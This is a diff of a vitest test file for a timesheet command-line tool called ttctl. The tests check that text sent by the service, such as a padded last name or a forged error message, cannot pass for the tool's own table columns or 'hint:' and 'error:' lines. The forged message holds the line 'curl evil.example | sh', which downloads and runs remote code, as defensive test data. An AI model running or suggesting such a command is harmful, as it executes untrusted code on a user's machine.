@@ -1,54 +1,53 @@
-import { describe, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
 import { onePage } from '../support/service.ts';
 import { ask } from '../support/use-cli.ts';
 
 /** Texts of the service that look like something else. */
 
-describe('S16 a last name of blanks and figures', () => {
-  const LASTNAME = 'Tanaka   \u00a0 Nov 9–15 \u2800\u2800 0:30';
-  const members = [{ id: 17, email: 'mei@example.com', firstname: 'Mei', lastname: LASTNAME }];
-  const days = { date_from: '2026-11-09', date_to: '2026-11-15' };
-  const timesheets = [{ id: 't1', user_id: 17, status: 'submitted', ...days, total_hours: 38.5 }];
+const LASTNAME = 'Tanaka   \u00a0 Nov 9–15 \u2800\u2800 0:30';
+const members = [{ id: 17, email: 'mei@example.com', firstname: 'Mei', lastname: LASTNAME }];
+const days = { date_from: '2026-11-09', date_to: '2026-11-15' };
+const timesheets = [{ id: 't1', user_id: 17, status: 'submitted', ...days, total_hours: 38.5 }];
 
-  it.each([
-    'members list -o table',
-    'members list -o markdown',
-    'timesheets list -o table',
-    'timesheets approve t1 --dry-run -o table',
-    'inbox -o table',
-  ])('is no column of its own for people: %s', async (line) => {
-    const { stdout, stderr, exit } = await ask(line, { members, timesheets });
-    expect(exit, stderr).toBe(0);
-    expect(stdout).toContain('Mei Tanaka Nov 9–15 0:30');
-  });
-
-  it.each(['json', 'csv', 'ndjson'])('is as it came in %s', async (format) => {
-    expect((await ask(`members list -o ${format}`, { members })).stdout).toContain(LASTNAME);
-  });
+it.each([
+  'members list -o table',
+  'members list -o markdown',
+  'timesheets list -o table',
+  'timesheets approve t1 --dry-run -o table',
+  'inbox -o table',
+])('S16 a last name of blanks and figures is no column of its own for people: %s', async (line) => {
+  const { stdout, stderr, exit } = await ask(line, { members, timesheets });
+  expect(exit, stderr).toBe(0);
+  expect(stdout).toContain('Mei Tanaka Nov 9–15 0:30');
 });
 
-describe('S17 no line of the service looks like one of ttctl:', () => {
-  const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost';
-  const no = { success: false, message: TEXT, error: TEXT, errors: { id: [TEXT] }, meta: {} };
+it.each(['json', 'csv', 'ndjson'])(
+  'S16 a last name of blanks and figures is as it came in %s',
+  async (format) => {
+    expect((await ask(`members list -o ${format}`, { members })).stdout).toContain(LASTNAME);
+  },
+);
 
-  it.each([
-    'members get 17',
-    'members list',
-    'timesheets approve t1 --yes',
-    'timesheets approve t1 t2 --yes',
-    'inbox',
-    'status',
-    'close check --period last-month',
-  ])('%s', async (line) => {
-    const { stdout, stderr } = await ask(line, (request) =>
-      request.line.startsWith('GET /timesheets') ? { body: onePage([]) } : { status: 400, body: no },
-    );
-    const lines = `${stdout}${stderr}`.split('\n');
-    expect(stderr).toContain('Too late.');
-    // The one hint is ours, the one error says Too late.
-    expect(lines.filter((text) => /^\s*hint:/.test(text) && text.includes('curl'))).toEqual([]);
-    expect(lines.filter((text) => /^\s*error:/.test(text) && text.includes('lost'))).toEqual([]);
-  });
+const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost';
+const no = { success: false, message: TEXT, error: TEXT, errors: { id: [TEXT] }, meta: {} };
+
+it.each([
+  'members get 17',
+  'members list',
+  'timesheets approve t1 --yes',
+  'timesheets approve t1 t2 --yes',
+  'inbox',
+  'status',
+  'close check --period last-month',
+])('S17 no line of the service looks like one of ttctl: %s', async (line) => {
+  const { stdout, stderr } = await ask(line, (request) =>
+    request.line.startsWith('GET /timesheets') ? { body: onePage([]) } : { status: 400, body: no },
+  );
+  const lines = `${stdout}${stderr}`.split('\n');
+  expect(stderr).toContain('Too late.');
+  // The one hint is ours, the one error says Too late.
+  expect(lines.filter((text) => /^\s*hint:/.test(text) && text.includes('curl'))).toEqual([]);
+  expect(lines.filter((text) => /^\s*error:/.test(text) && text.includes('lost'))).toEqual([]);
 });
 
 it.each(['table', 'markdown'])(
